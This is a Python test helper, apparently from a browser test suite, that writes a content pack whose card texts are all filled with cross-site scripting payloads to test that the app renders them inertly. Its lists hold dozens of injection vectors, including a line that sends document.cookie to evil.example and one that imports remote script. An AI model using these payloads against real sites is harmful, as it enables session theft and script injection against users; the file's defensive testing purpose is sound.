"""Texts that would run a script where they were taken for markup, and a pack of every kind of card that says nothing else."""

from collections.abc import Iterator
from functools import cache
from itertools import count, islice, product
from pathlib import Path
from typing import Any, get_args

import yaml

from backend.packs.content import ResourceType
from tests.browser.editing import PACKS
from tests.browser.server import HOUSE

PACK = "vijandig"
TEXT_MAX = 1_900  # characters of one text, of the 2,000 that a pack allows
NAME_MAX = 400  # of a name or a title, of the 500 that a list allows
STARTER = HOUSE / "backend" / "starter"
# Where each kind of card is taken from: the pack of a library's tests first, then ours.
SOURCES = [
    PACKS / "oefenen",
    *(STARTER / name for name in ("aankomst", "asiel", "meedoen", "team", "team-taal")),
]
RUN = "hit()"
RUNS = (
    RUN,
    "alert(1)",
    "top['hit']()",
    "window.hit&&hit()",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/'+document.cookie)",
    "setTimeout('hit()')",
    "Function('hit()')()",
)
# What reaches a script when markup is parsed: {} is the script.
MARKUP = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={} />#x'>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<image src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe onload={}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus>x</a>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<button form=f formaction=javascript:{}>x</button><form id=f>",
    "<math><mtext><table><mglyph><style><img src onerror={}></style></mglyph></table></mtext></math>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style onload={}></style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<x onclick={} style=position:fixed;inset:0>x</x>",
    "<marquee onstart={}>x</marquee>",
    "<body onload={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<template><script>{}</script></template>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' style=animation-name:x onanimationstart={} '",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3D{}%3E",
    "[x](javascript:{})",
    "![x](x onerror={})",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "`;{};`",
    "';{};//",
    "\u202e<img src=x onerror={}>\u202c",
    "<img src=x onerror={}>\u2066",
)
Value = Any


def payloads() -> list[str]:
    """Each once."""
    return list(dict.fromkeys(markup.format(run) for run, markup in product(RUNS, MARKUP)))


@cache
def texts(at_most: int = TEXT_MAX) -> list[str]:
    """All of them that fit in as few texts of so many characters as hold them."""
    found = [""]
    for payload in payloads():
        if len(payload) > at_most:
            continue
        longer = f"{found[-1]} {payload}".strip()
        if len(longer) <= at_most:
            found[-1] = longer
        else:
            found.append(payload)
    return found


def write_pack(folder: Path, *, is_whole: bool) -> list[str]:
    """A pack whose every text is hostile; its cards. In a whole one each text of each kind of card says each of them once."""
    folder.mkdir(parents=True)
    said = texts()
    names = []
    for turn in range(len(said) if is_whole else 1):
        numbers = count(turn)
        for card in one_of_each():
            name = f"V-{len(names) + 1:03}"
            names.append(name)
            owned = {
                **spoilt(card, said, numbers),
                "id": name,
                "theme": "taal",
                "audience": "newcomer",
                "phases": [1],
            }
            _write(folder / f"{name}.yaml", owned)
    pack = yaml.safe_load((PACKS / "oefenen" / "pack.yaml").read_text("utf-8"))
    facts = [{**fact, "source_name": texts(NAME_MAX)[0], "owner": said[1]} for fact in pack["facts"]]
    pack = spoilt(pack, texts(NAME_MAX), count()) | {
        "id": PACK,
        "languages": ["nl", "ar"],
        "resources": names,
        "facts": facts,
    }
    _write(folder / "pack.yaml", pack)
    return names


def one_of_each() -> Iterator[dict[str, Value]]:
    """The first card of each kind, the sounds and facts of which are those that the pack has."""
    seen = set()
    for folder in SOURCES:
        for path in sorted(folder.glob("[A-Z]*-*.yaml")):
            card = yaml.safe_load(path.read_text("utf-8"))
            if card["type"] not in seen:
                seen.add(card["type"])
                yield _at_home(card)
            if len(seen) == len(get_args(ResourceType)):
                return


def spoilt(value: Value, said: list[str], numbers: Iterator[int]) -> Value:
    """The same with the next hostile text wherever there is one."""
    if isinstance(value, dict):
        if set(value) == {"id", "nl"}:
            return {**value, "nl": said[next(numbers) % len(said)]}
        short = texts(NAME_MAX)
        changed = {
            name: spoilt(kept, short if name in ("title", "summary") else said, numbers)
            for name, kept in value.items()
        }
        if "keywords" in changed:
            changed["keywords"] = [{"language": "nl", "words": list(islice(_short(), 60))}]
        if "source_name" in changed:
            changed["source_name"] = short[next(numbers) % len(short)]
        return changed
    return [spoilt(kept, said, numbers) for kept in value] if isinstance(value, list) else value


def _short() -> Iterator[str]:
    """What fits a word that people search by."""
    return (payload for payload in payloads() if len(payload) <= 80)


def _at_home(value: Value) -> Value:
    if isinstance(value, dict):
        homes = {"sound": "dokter.mp3", "phone": "huisarts"}
        return {name: homes.get(name) or _at_home(kept) for name, kept in value.items()}
    return [_at_home(kept) for kept in value] if isinstance(value, list) else value


def _write(path: Path, value: Value) -> None:
    path.write_text(yaml.safe_dump(value, allow_unicode=True, sort_keys=False), "utf-8")
